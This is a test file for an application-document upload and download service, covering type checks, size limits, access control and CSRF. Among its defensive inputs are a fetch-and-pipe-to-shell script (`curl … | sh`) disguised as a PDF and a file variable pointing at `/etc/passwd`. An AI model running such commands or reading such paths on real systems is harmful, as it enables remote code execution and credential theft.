import fs from 'node:fs';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import { createTestApp, type TestApp } from '../../testing/test-app';
import {
  completeApplication,
  freshKey,
  myApplicationQuery,
  submitMutation,
  pdfBytes,
  pngBytes,
  signedInAccount,
  upload,
  type TestAccount,
} from './applications.testing';
import { applicationDocuments } from './applications.table';
import { documentObjectKey } from './documents.service';

let testApp: TestApp;

beforeAll(async () => {
  testApp = await createTestApp({ environment: { APPLICATION_MAX_CERTIFICATES: '2' } });
});

afterAll(async () => {
  await testApp.close();
});

const fieldsOf = (reply: { errors?: { extensions?: Record<string, unknown> }[] }) =>
  reply.errors?.[0]?.extensions?.fields;

// The local store keeps the data folder's layout: DATA_DIR/uploads/applications/<storageKey>.
const storagePath = (config: TestApp['config'], storageKey: string) =>
  path.join(config.uploadsDir, ...documentObjectKey(storageKey).split('/'));

async function storedFile(id: string): Promise<Buffer> {
  const [row] = await testApp.db.select().from(applicationDocuments).where(eq(applicationDocuments.id, id));
  return fs.readFileSync(storagePath(testApp.config, row.storageKey));
}

function download(url: string, headers: Record<string, string> = {}) {
  return testApp.app.inject({ method: 'GET', url, headers });
}

describe('uploading application documents', () => {
  let applicant: TestAccount;

  beforeAll(async () => {
    applicant = await signedInAccount(testApp);
  });

  it('stores a PDF CV outside the site, with the type read from its content', async () => {
    const bytes = pdfBytes();
    const reply = await upload(testApp, applicant.headers, {
      kind: 'CV',
      fileName: 'السيرة الذاتية.pdf',
      contentType: 'application/pdf',
      bytes,
    });

    expect(reply.errors).toBeUndefined();
    const document = reply.data!.uploadApplicationDocument;
    expect(document).toMatchObject({
      kind: 'CV',
      fileName: 'السيرة الذاتية.pdf',
      mediaType: 'application/pdf',
      sizeBytes: bytes.length,
    });
    const stored = await storedFile(document.id);
    expect(stored.equals(bytes)).toBe(true);
    expect(storagePath(testApp.config, 'x').startsWith(testApp.config.uploadsDir)).toBe(true);
    expect(testApp.config.uploadsDir.startsWith(testApp.config.siteDir)).toBe(false);
  });

  it('refuses a renamed script, whatever its name and declared type say', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl https://example.com/x | sh\n');
    const reply = await upload(testApp, applicant.headers, {
      kind: 'QUALIFICATION',
      fileName: 'degree.pdf',
      contentType: 'application/pdf',
      bytes: script,
    });

    expect(reply.data).toBeNull();
    expect(fieldsOf(reply)).toEqual([{ path: 'file', code: 'file_type_invalid' }]);
  });

  it('refuses a file variable sent as JSON (say, a path on the server), and starts no application', async () => {
    const visitor = await signedInAccount(testApp);
    const reply = await testApp.graphql(
      `mutation Upload($file: File!) { uploadApplicationDocument(kind: CV, file: $file) { id } }`,
      { file: { path: '/etc/passwd', name: 'cv.pdf', size: 10 } },
      visitor.headers,
    );
    expect(fieldsOf(reply)).toEqual([{ path: 'file', code: 'required' }]);
    const application = await testApp.graphql<{ myApplication: unknown }>(
      '{ myApplication { id } }',
      {},
      visitor.headers,
    );
    expect(application.data!.myApplication).toBeNull();
  });

  it('refuses a certificate replacing a file that does not exist, and starts no application', async () => {
    const visitor = await signedInAccount(testApp);
    const reply = await upload(testApp, visitor.headers, {
      kind: 'CERTIFICATE',
      fileName: 'certificate.pdf',
      contentType: 'application/pdf',
      bytes: pdfBytes('certificate'),
      replaceId: 'cddb61e2-8c9b-455e-9eb3-317afffffff9',
    });
    expect(fieldsOf(reply)).toEqual([{ path: 'replaceId', code: 'invalid' }]);
    const application = await testApp.graphql<{ myApplication: unknown }>(
      '{ myApplication { id } }',
      {},
      visitor.headers,
    );
    expect(application.data!.myApplication).toBeNull();
  });

  it('refuses an executable and an archive named as documents', async () => {
    const executable = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0)]);
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100, 0)]);
    for (const bytes of [executable, zip]) {
      const reply = await upload(testApp, applicant.headers, {
        kind: 'IDENTITY',
        fileName: 'id.jpg',
        contentType: 'image/jpeg',
        bytes,
      });
      expect(fieldsOf(reply)).toEqual([{ path: 'file', code: 'file_type_invalid' }]);
    }
  });

  it('refuses an 11 MB file', async () => {
    const bytes = Buffer.concat([pdfBytes(), Buffer.alloc(11 * 1024 * 1024, 0x20)]);
    const reply = await upload(testApp, applicant.headers, {
      kind: 'CLASSIFICATION',
      fileName: 'scfhs.pdf',
      contentType: 'application/pdf',
      bytes,
    });

    // Yoga stops reading at the 10 MB limit, before the file reaches the resolver.
    expect(reply.status).toBe(413);
    expect(reply.errors?.[0]?.extensions?.code).toBe('REQUEST_ENTITY_TOO_LARGE');
    const application = await testApp.graphql<{ myApplication: { documents: { kind: string }[] } }>(
      myApplicationQuery,
      {},
      applicant.headers,
    );
    expect(application.data!.myApplication.documents.map((document) => document.kind)).not.toContain('CLASSIFICATION');
  });

  it('takes a 9 MB document but refuses a photo over 5 MB, and a photo that is not an image', async () => {
    const large = Buffer.concat([pdfBytes(), Buffer.alloc(9 * 1024 * 1024, 0x20)]);
    expect(
      (
        await upload(testApp, applicant.headers, {
          kind: 'CLASSIFICATION',
          fileName: 'scfhs.pdf',
          contentType: 'application/pdf',
          bytes: large,
        })
      ).errors,
    ).toBeUndefined();

    const bigPhoto = await upload(testApp, applicant.headers, {
      kind: 'PHOTO',
      fileName: 'me.png',
      contentType: 'image/png',
      bytes: pngBytes(5 * 1024 * 1024 + 1),
    });
    expect(fieldsOf(bigPhoto)).toEqual([{ path: 'file', code: 'photo_too_large' }]);
    const pdfPhoto = await upload(testApp, applicant.headers, {
      kind: 'PHOTO',
      fileName: 'me.png',
      contentType: 'image/png',
      bytes: pdfBytes(),
    });
    expect(fieldsOf(pdfPhoto)).toEqual([{ path: 'file', code: 'photo_type_invalid' }]);
    const photo = await upload(testApp, applicant.headers, {
      kind: 'PHOTO',
      fileName: 'me.png',
      contentType: 'image/png',
      bytes: pngBytes(4 * 1024 * 1024),
    });
    expect(photo.data?.uploadApplicationDocument).toMatchObject({ kind: 'PHOTO', mediaType: 'image/png' });
  });

  it('replaces a single document and deletes the old file', async () => {
    const first = await upload(testApp, applicant.headers, {
      kind: 'IDENTITY',
      fileName: 'id-old.png',
      contentType: 'image/png',
      bytes: pngBytes(),
    });
    const [oldRow] = await testApp.db
      .select()
      .from(applicationDocuments)
      .where(eq(applicationDocuments.id, first.data!.uploadApplicationDocument.id));
    const second = await upload(testApp, applicant.headers, {
      kind: 'IDENTITY',
      fileName: 'id-new.pdf',
      contentType: 'application/pdf',
      bytes: pdfBytes('ID'),
    });

    const application = await testApp.graphql<{ myApplication: { documents: { kind: string; fileName: string }[] } }>(
      myApplicationQuery,
      {},
      applicant.headers,
    );
    const identities = application.data!.myApplication.documents.filter((document) => document.kind === 'IDENTITY');
    expect(identities).toEqual([expect.objectContaining({ fileName: 'id-new.pdf' })]);
    expect(second.data!.uploadApplicationDocument.id).not.toBe(first.data!.uploadApplicationDocument.id);
    expect(fs.existsSync(storagePath(testApp.config, oldRow.storageKey))).toBe(false);
  });

  it('adds certificates up to the configured count, replaces one by id, and removes one', async () => {
    const certificate = (name: string, replaceId?: string) =>
      upload(testApp, applicant.headers, {
        kind: 'CERTIFICATE',
        fileName: name,
        contentType: 'application/pdf',
        bytes: pdfBytes(name),
        replaceId,
      });
    const one = await certificate('cbt.pdf');
    const two = await certificate('first-aid.pdf');
    expect([one.errors, two.errors]).toEqual([undefined, undefined]);

    const three = await certificate('third.pdf');
    expect(fieldsOf(three)).toEqual([{ path: 'file', code: 'too_many_files' }]);

    const replaced = await certificate('cbt-2025.pdf', one.data!.uploadApplicationDocument.id);
    expect(replaced.errors).toBeUndefined();

    const removal = await testApp.graphql<{
      removeApplicationDocument: { documents: { kind: string; fileName: string }[] };
    }>(
      `mutation Remove($id: ID!) { removeApplicationDocument(id: $id) { documents { kind fileName } } }`,
      { id: two.data!.uploadApplicationDocument.id },
      applicant.headers,
    );
    const certificates = removal.data!.removeApplicationDocument.documents.filter(
      (document) => document.kind === 'CERTIFICATE',
    );
    expect(certificates.map((document) => document.fileName)).toEqual(['cbt-2025.pdf']);
  });

  it('refuses uploads from someone signed out or from a legacy reviewer account', async () => {
    const signedOut = await upload(
      testApp,
      { 'x-graphql-csrf': '1' },
      { kind: 'CV', fileName: 'cv.pdf', contentType: 'application/pdf', bytes: pdfBytes() },
    );
    expect(signedOut.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
    const reviewer = await signedInAccount(testApp, { role: 'reviewer' });
    const byReviewer = await upload(testApp, reviewer.headers, {
      kind: 'CV',
      fileName: 'cv.pdf',
      contentType: 'application/pdf',
      bytes: pdfBytes(),
    });
    expect(byReviewer.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
  });

  it('refuses a multipart request without the CSRF header', async () => {
    const { 'x-graphql-csrf': _csrf, ...withoutCsrf } = applicant.headers;
    const reply = await upload(testApp, withoutCsrf, {
      kind: 'CV',
      fileName: 'cv.pdf',
      contentType: 'application/pdf',
      bytes: pdfBytes(),
    });
    expect(reply.status).toBe(403);
  });
});

describe('downloading application documents', () => {
  it('lets the owner download a file, and nobody else: not a legacy reviewer account, even once it is sent', async () => {
    const owner = await signedInAccount(testApp);
    const other = await signedInAccount(testApp);
    const reviewer = await signedInAccount(testApp, { role: 'reviewer' });
    await completeApplication(testApp, owner);
    const bytes = pdfBytes('private CV');
    const { url } = (
      await upload(testApp, owner.headers, { kind: 'CV', fileName: 'cv.pdf', contentType: 'application/pdf', bytes })
    ).data!.uploadApplicationDocument;

    const byOwner = await download(url, { cookie: owner.headers.cookie });
    expect(byOwner.statusCode).toBe(200);
    expect(byOwner.rawPayload.equals(bytes)).toBe(true);
    expect(byOwner.headers['content-type']).toBe('application/pdf');
    expect(byOwner.headers['content-disposition']).toMatch(/^attachment; filename="cv.pdf"/);
    expect(byOwner.headers['cache-control']).toBe('private, no-store');
    // The staff console frames documents: this site's pages may, and both framing headers say so alike.
    expect(byOwner.headers['content-security-policy']).toContain("frame-ancestors 'self'");
    expect(byOwner.headers['x-frame-options']).toBe('SAMEORIGIN');

    // Staff read sent files through the console's route; a legacy reviewer's session is nobody's.
    const submitted = await testApp.graphql(
      submitMutation,
      { certified: true, idempotencyKey: freshKey() },
      owner.headers,
    );
    expect(submitted.errors).toBeUndefined();
    expect((await download(url, { authorization: `Bearer ${reviewer.token}` })).statusCode).toBe(401);

    expect((await download(url, { cookie: other.headers.cookie })).statusCode).toBe(404);
    expect((await download(url)).statusCode).toBe(401);
    expect(
      (await download('/files/application-documents/not-an-id', { cookie: owner.headers.cookie })).statusCode,
    ).toBe(404);
  });

  it("does not let one applicant remove another's file", async () => {
    const owner = await signedInAccount(testApp);
    const other = await signedInAccount(testApp);
    const { id } = (
      await upload(testApp, owner.headers, {
        kind: 'CV',
        fileName: 'cv.pdf',
        contentType: 'application/pdf',
        bytes: pdfBytes(),
      })
    ).data!.uploadApplicationDocument;

    const reply = await testApp.graphql(
      `mutation Remove($id: ID!) { removeApplicationDocument(id: $id) { id } }`,
      { id },
      other.headers,
    );
    expect(fieldsOf(reply)).toEqual([{ path: 'id', code: 'invalid' }]);
    expect(await testApp.db.select().from(applicationDocuments).where(eq(applicationDocuments.id, id))).toHaveLength(1);
  });
});
